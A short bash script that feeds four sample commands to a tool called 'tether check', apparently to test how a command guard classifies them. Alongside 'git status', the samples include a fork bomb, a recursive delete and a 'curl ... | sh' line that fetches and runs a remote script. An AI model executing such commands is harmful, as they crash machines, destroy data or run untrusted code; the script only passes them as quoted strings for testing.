#!/usr/bin/env bash
# The main job on a fresh machine. For now: tether check on a few commands.
set -uo pipefail
cd "$(dirname "$0")/.."
for c in 'git status' 'rm -rf build/' ':(){ :|:& };:' 'curl https://example.com/i.sh | sh'; do
	echo "\$ tether check '$c'"
	./bin/tether check "$c"
	echo "(exit $?)"
	echo
done
